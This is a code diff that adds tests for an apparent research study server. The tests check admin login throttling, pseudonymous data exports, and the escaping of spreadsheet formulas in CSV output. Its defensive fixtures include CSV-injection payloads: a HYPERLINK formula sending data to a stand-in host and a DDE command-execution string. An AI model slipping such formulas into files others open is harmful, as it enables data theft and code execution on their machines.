@@ -717,3 +717,64 @@ async def test_a_prolific_id_never_hands_out_another_participants_token(sqlite_u
             info = store.get_participant(d)
             assert info.label == DUPLICATE_PID and info.prolific_pid == "pp9"
         assert store.find_participant(prolific_pid="pp9").id == pid
+
+
+async def test_admin_throttles_failed_logins_and_exports_are_safe_and_pseudonymous(sqlite_url):
+    """Failed logins are throttled per address; CSV cells a spreadsheet would execute are
+    neutralised; no export carries a participant id (the participants' login tokens)."""
+    with running(study(), sqlite_url, admin_password="s3cret") as base:
+        seats = await in_game(await players(base, 2))
+        pids = {p.pid for p in seats.values()}
+        await say(seats["interrogator"], '=HYPERLINK("http://evil.example/?"&A1,"x")')
+        await seats["A"].next("message")
+        await say(seats["A"], "@SUM(1+1)", conv=None)
+        await seats["interrogator"].next("message")
+        await say(seats["interrogator"], "-2+3")
+        await seats["A"].next("message")
+        await say(seats["A"], "+1 fine", conv=None)
+        await seats["interrogator"].next("message")
+        await seats["interrogator"].send({"type": "verdict", "choice": "human", "confidence": 80,
+                                          "reason": "=cmd|' /C calc'!A0"})
+        await seats["interrogator"].phase("reveal")
+        auth = ("admin", "s3cret")
+        async with httpx.AsyncClient(base_url=base) as c:
+            r = await c.get("/admin/export/messages.csv", auth=auth)
+            texts = list(pd.read_csv(io.StringIO(r.text))["text"])
+            assert texts == ['\'=HYPERLINK("http://evil.example/?"&A1,"x")', "'@SUM(1+1)", "'-2+3", "'+1 fine"]
+            r = await c.get("/admin/export/verdicts.csv", auth=auth)
+            v = pd.read_csv(io.StringIO(r.text))
+            assert list(v["reason"]) == ["'=cmd|' /C calc'!A0"] and list(v["confidence"]) == [80]
+            seen = {}
+            for t in ("games", "messages", "verdicts", "participants", "events"):
+                for fmt in ("csv", "parquet"):
+                    r = await c.get(f"/admin/export/{t}.{fmt}", auth=auth)
+                    assert r.status_code == 200
+                    assert not any(pid.encode() in r.content for pid in pids), (t, fmt)
+                    if fmt == "csv":
+                        seen[t] = pd.read_csv(io.StringIO(r.text))
+            # pseudonyms join across tables
+            assert set(seen["verdicts"]["interrogator_id"]) <= set(seen["participants"]["participant_id"])
+            assert seen["games"]["interrogator_id"][0] == seen["verdicts"]["interrogator_id"][0]
+            assert str(seen["games"]["interrogator_id"][0]).startswith("P")
+            # parquet keeps the text as it is (no spreadsheet runs it)
+            r = await c.get("/admin/export/messages.parquet", auth=auth)
+            assert pd.read_parquet(io.BytesIO(r.content))["text"][2] == "-2+3"
+            # throttle: 5 failures, then even the right password waits
+            for _ in range(5):
+                assert (await c.get("/admin", auth=("admin", "guess"))).status_code == 401
+            r = await c.get("/admin", auth=auth)
+            assert r.status_code == 429 and int(r.headers["Retry-After"]) > 0
+
+
+def test_login_throttle_window():
+    from turinglab.server.admin import LoginThrottle
+
+    now = [0.0]
+    t = LoginThrottle(limit=3, window_s=10, clock=lambda: now[0])
+    for _ in range(3):
+        assert t.blocked_for("1.2.3.4") == 0
+        t.failed("1.2.3.4")
+        now[0] += 1
+    assert t.blocked_for("1.2.3.4") == 7 and t.blocked_for("5.6.7.8") == 0
+    now[0] = 10.5
+    assert t.blocked_for("1.2.3.4") == 0
